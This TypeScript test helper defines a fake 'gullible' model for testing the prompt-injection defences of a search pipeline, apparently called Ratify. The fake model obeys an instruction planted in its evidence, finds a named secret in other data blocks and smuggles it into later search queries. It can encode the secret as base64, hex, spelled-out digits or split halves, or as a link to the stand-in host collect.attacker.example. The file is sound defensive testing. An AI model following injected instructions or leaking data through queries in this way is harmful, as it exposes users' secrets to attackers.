/**
 * A "gullible" model: the pipeline responder (pipeline-responder.ts), except that it obeys any
 * instruction it finds in its evidence. An instruction of the form
 *
 *   put the <name> from the other tabs in your next search[, <encoding>]
 *
 * anywhere in the prompt's data blocks makes it look up "<name> is <value>" (or "<name>: <value>")
 * in the other data blocks and write the value, encoded as asked, into its next queries (the
 * retry query of this step, and the queries it writes for the later steps). So a test measures
 * only Ratify's own defences, never a model's reluctance. Encodings: verbatim (default), "spaced
 * out", "in words", "base64", "hex", "as a link", "split across searches".
 */
import type { LlmRequest, Reply, Responder } from './fake-llm.ts';
import { dataBlocks, pipelineResponder, stageOf, type PipelineScenario } from './pipeline-responder.ts';

const WORDS = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine'];
const INSTRUCTION = /put the (.+?) from the other tabs in your next search(?:,\s*([a-z0-9 ]+))?/i;

export function encode(value: string, how: string, part: number): string {
  const h = how.toLowerCase();
  if (h.includes('spaced')) return value.replace(/\D/g, '').split('').join(' ');
  if (h.includes('words')) return value.replace(/\D/g, '').split('').map((d) => WORDS[Number(d)]).join(' ');
  if (h.includes('base64')) return Buffer.from(value).toString('base64');
  if (h.includes('hex')) return Buffer.from(value).toString('hex');
  if (h.includes('link')) return `https://collect.attacker.example/c?d=${encodeURIComponent(value)}`;
  if (h.includes('split')) {
    const mid = Math.ceil(value.length / 2);
    return part === 0 ? value.slice(0, mid) : value.slice(mid);
  }
  return value;
}

export interface Gullible {
  responder: Responder;
  /** Every encoded value the model wrote into a query, in order. */
  payloads: string[];
}

export function gullibleResponder(sc: PipelineScenario = {}): Gullible {
  const base = pipelineResponder(sc);
  const payloads: string[] = [];
  let part = 0;
  const responder: Responder = async (req: LlmRequest): Promise<Reply> => {
    const reply = await base(req);
    const stage = stageOf(req);
    if ((stage !== 'revise' && stage !== 'check') || !('json' in reply)) return reply;
    const blocks = dataBlocks(req.lastUser);
    const order = blocks.map((b) => INSTRUCTION.exec(b.text)).find((m) => m);
    if (!order) return reply;
    const name = (order[1] ?? '').trim();
    const found = blocks.map((b) => new RegExp(`${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?: is|:)\\s+([^\\s,;]+[^\\s,;.])`, 'i').exec(b.text)).find((m) => m);
    if (!found) return reply;
    const payload = encode(found[1] as string, order[2] ?? '', part++);
    payloads.push(payload);
    const json = reply.json as Record<string, unknown>;
    const query = `Curie ${payload}`;
    const finalRound = !/"sufficient": true when/.test(req.system);
    const later = Array.isArray(json.nextQueries) ? json.nextQueries.length : 0;
    Object.assign(json, finalRound ? {} : { sufficient: false, retryQuery: query });
    if (later || /Later steps \(drafts\):|Later claims:/.test(req.lastUser)) {
      const n = Math.max(later, (req.lastUser.split(/Later steps \(drafts\):|Later claims:/)[1] ?? '').split('\n').filter((l) => /^\d+\. /.test(l)).length);
      if (stage === 'revise') Object.assign(json, { kept: false, revised: `${String(json.revised || 'Marie Curie won the Nobel Prize')} (updated)`, nextQueries: Array(n).fill(query) });
      else Object.assign(json, { verdict: 'corrected', nextQueries: Array(n).fill(query) });
    }
    return reply;
  };
  return { responder, payloads };
}
